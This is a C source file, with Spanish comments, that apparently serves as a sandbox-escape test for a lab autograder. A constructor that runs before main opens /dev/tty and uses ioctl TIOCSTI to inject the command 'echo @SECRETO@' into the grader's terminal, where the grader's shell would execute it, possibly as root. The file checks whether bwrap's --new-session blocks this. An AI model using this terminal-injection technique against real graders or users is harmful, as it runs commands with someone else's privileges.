/* inyecta_terminal.c — trampa del laboratorio 07 (se antepone a la solución): escribir en la
 * entrada de la terminal de quien califica.
 *
 * Antes de main abre /dev/tty (su terminal de control, si la tiene) y, con ioctl TIOCSTI, mete
 * en su cola de entrada la línea «echo @SECRETO@»: cuando el calificador acaba, la lee el shell
 * que lo lanzó y la ejecuta como quien califica (root, si el profesor califica como root).
 * Sin bwrap el ejecutor solo cambiaba de grupo de procesos (setpgid): la entrega seguía en la
 * sesión de quien califica y /dev/tty era su terminal. Con bwrap, --new-session ya lo impedía.
 * Lo que consigue lo dice en su salida (INYECTADO, o el error de open/ioctl) y, después, hace
 * el trabajo de la solución: la nota es la de la solución, y la prueba mira la terminal. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

__attribute__((constructor)) static void it_inyectar(void)
{
    static const char linea[] = "echo @SECRETO@\n";
    int fd = open("/dev/tty", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        fprintf(stderr, "INYECTA_TERMINAL open /dev/tty: %s\n", strerror(errno));
        return;
    }
    for (size_t i = 0; i < sizeof linea - 1; i++)
        if (ioctl(fd, TIOCSTI, &linea[i]) < 0) {
            fprintf(stderr, "INYECTA_TERMINAL ioctl TIOCSTI: %s\n", strerror(errno));
            close(fd);
            return;
        }
    fprintf(stderr, "INYECTA_TERMINAL INYECTADO\n");
    close(fd);
}
